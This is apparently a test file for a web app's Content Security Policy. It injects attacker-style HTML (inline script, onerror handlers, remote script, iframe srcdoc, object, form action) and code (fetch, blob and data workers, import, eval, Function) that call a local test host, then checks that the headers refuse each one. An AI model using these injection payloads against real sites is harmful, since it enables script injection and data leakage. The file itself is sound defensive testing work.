/**
 * Attacks on the built page: markup and code in it, code in its worker, a frame around it. Each is tried with our headers,
 * with the policy of the meta alone and, to know that the attack is one, without any.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import type { BrowserContextOptions, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test } from "vitest";
import { headersFor } from "../../scripts/headers.mjs";
import { type HeadersOf, live, noHeaders, openSite, settled, type Site } from "./site";
import { openStranger, type Stranger } from "./stranger";

let stranger: Stranger;
beforeAll(async () => {
  stranger = await openStranger();
});
afterAll(() => stranger.close());
beforeEach(() => stranger.forget());

/**
 * Ways out that code in a page or in a worker can try; each asks the stranger for its own name. As text, because the test
 * runner would rewrite `import()`.
 */
const TRIES = `
  async () => {
    const call = (name) => "fetch('" + FOREIGN + "/" + name + "').catch(() => undefined)";
    const script = (name) => new Blob([call(name)], { type: "text/javascript" });
    const tries = [
      () => fetch(FOREIGN + "/fetch"),
      () => new Worker(FOREIGN + "/worker"),
      () => new Worker(URL.createObjectURL(script("blob-worker"))),
      () => new Worker("data:text/javascript," + encodeURIComponent(call("data-worker"))),
      () => import(FOREIGN + "/import"),
      () => (0, eval)(call("eval")),
      () => new Function(call("function"))(),
    ];
    for (const attempt of tries) await Promise.resolve().then(attempt).catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 1500));
  }`;
const attack = (): string => `(${TRIES.replaceAll("FOREIGN", JSON.stringify(stranger.address))})()`;

/** Markup as an attacker would leave it in a page; each piece asks the stranger for its own name. */
const injected = (host: string): string => `
  <script>fetch("${host}/inline")</script>
  <img src="nothing" onerror="fetch('${host}/handler')">
  <script src="${host}/script"></script>
  <link rel="stylesheet" href="${host}/stylesheet">
  <style>body { background: url(${host}/style) }</style>
  <img src="${host}/image">
  <iframe src="${host}/frame"></iframe>
  <iframe srcdoc="<script>fetch('${host}/srcdoc')</script>"></iframe>
  <object data="${host}/object"></object>
  <iframe name="sink"></iframe>
  <form id="form" action="${host}/form" target="sink"></form>
  <button form="form" id="send">x</button>`;

/** The built page with that markup in it, beside links to the rest of dist/. */
function injectedSite(): string {
  const root = mkdtempSync(join(tmpdir(), "unmask-"));
  onTestFinished(() => rmSync(root, { recursive: true }));
  for (const name of readdirSync("dist"))
    if (!name.startsWith("index.html")) symlinkSync(resolve("dist", name), join(root, name));
  const page = readFileSync("dist/index.html", "utf8");
  expect(page).toContain('<div id="root">');
  writeFileSync(
    join(root, "index.html"),
    page.replace('<div id="root">', `${injected(stranger.address)}<div id="root">`),
  );
  return root;
}

async function opened(options: Parameters<typeof openSite>[0]): Promise<Site> {
  const site = await openSite(options);
  onTestFinished(() => site.close());
  return site;
}

async function attackPage(headers: HeadersOf, options: BrowserContextOptions = {}): Promise<void> {
  const site = await opened({ headers, root: injectedSite() });
  const page = await (await site.browser.newContext(options)).newPage();
  await page.goto(site.address);
  await live(page);
  await page.locator("#send").dispatchEvent("click");
  await page.evaluate(attack());
}

const workerOf = (page: Page) => page.workers().find((worker) => worker.url().includes("/worker-"))!;

const CODE = ["fetch", "blob-worker", "data-worker", "import", "eval", "function"];
const MARKUP = ["inline", "handler", "script", "stylesheet", "style", "image", "frame", "srcdoc", "object", "form"];

describe("an attacker who can write into the page", () => {
  test("reaches no other host, each way is refused by the rule made for it, and the page still works", async () => {
    await attackPage(stranger.reporting);
    expect(stranger.asked()).toEqual([]);
    expect([...new Set(stranger.violated().map(({ directive }) => directive))].toSorted()).toEqual([
      "connect-src",
      "form-action",
      "frame-src",
      "img-src",
      "object-src",
      "require-trusted-types-for",
      "script-src-attr",
      "script-src-elem",
      "style-src-elem",
    ]);
  });

  test("reaches no other host where only the meta guards", async () => {
    await attackPage(noHeaders);
    expect(stranger.asked()).toEqual([]);
  });

  test("would reach it in each of these ways without a policy", async () => {
    await attackPage(noHeaders, { bypassCSP: true });
    expect(stranger.asked()).toEqual(expect.arrayContaining([...CODE, ...MARKUP]));
  });
});

describe("an attacker who can run code in the worker", () => {
  test("reaches no other host, for the header binds the worker's own file", async () => {
    const site = await opened({ headers: stranger.reporting });
    const page = await site.open();
    await settled(page);
    await workerOf(page).evaluate(attack());
    expect(stranger.asked()).toEqual([]);
    const rules = stranger.violated().map(({ directive }) => directive);
    expect(rules).toEqual(expect.arrayContaining(["connect-src", "require-trusted-types-for", "script-src-elem"]));
  });

  test("reaches it where only the page's meta guards, as the README says", async () => {
    const site = await opened({ headers: noHeaders });
    const page = await site.open();
    await settled(page);
    await workerOf(page).evaluate(attack());
    expect(stranger.asked()).toEqual(expect.arrayContaining(["fetch", "eval"]));
  });
});

describe("in a frame on another site", () => {
  const framed = async (embeddable: boolean): Promise<Page> => {
    const pages = [{ file: "index.html", embeddable }];
    const site = await opened({ headers: (path) => headersFor(path, pages) });
    const page = await site.browser.newPage();
    await page.goto(stranger.framing(`${site.address}index.html`));
    return page;
  };

  test("a page made for it runs", async () => {
    const page = await framed(true);
    await page.frameLocator("iframe").locator(".badge.live").waitFor({ timeout: 60_000 });
  });

  test("any other is refused", async () => {
    const page = await framed(false);
    await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
  });
});
